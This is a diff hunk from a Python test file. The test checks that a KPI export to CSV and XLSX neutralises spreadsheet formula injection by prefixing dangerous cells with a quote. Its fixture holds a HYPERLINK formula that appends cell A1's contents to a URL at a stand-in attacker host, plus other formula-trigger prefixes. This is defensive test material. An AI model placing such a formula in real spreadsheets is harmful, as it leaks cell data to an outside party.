@@ -687,7 +687,7 @@ FORMULA_CAMPAIGNS = ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+2"
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
 def test_kpis_export_writes_no_live_formulas(tmp_path: Path, suffix: str, record) -> None:
     row = record(f"export_formulas_inert{suffix.replace('.', '_')}", f"`kpis --by campaign --out x{suffix}` with "
-                 "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…`, tab and CR", "every such cell starts with `'` "
+                 "campaigns `=HYPERLINK(…)`, `+…`, `-…`, `@…` and a leading tab (CR: unit test)", "every such cell starts with `'` "
                  "(text, not a formula); numbers untouched")
     files = {PARAMS: _params(kpis=("revenue", "orders")),
              "data.csv": daily_rows(days=20, campaigns=FORMULA_CAMPAIGNS)}
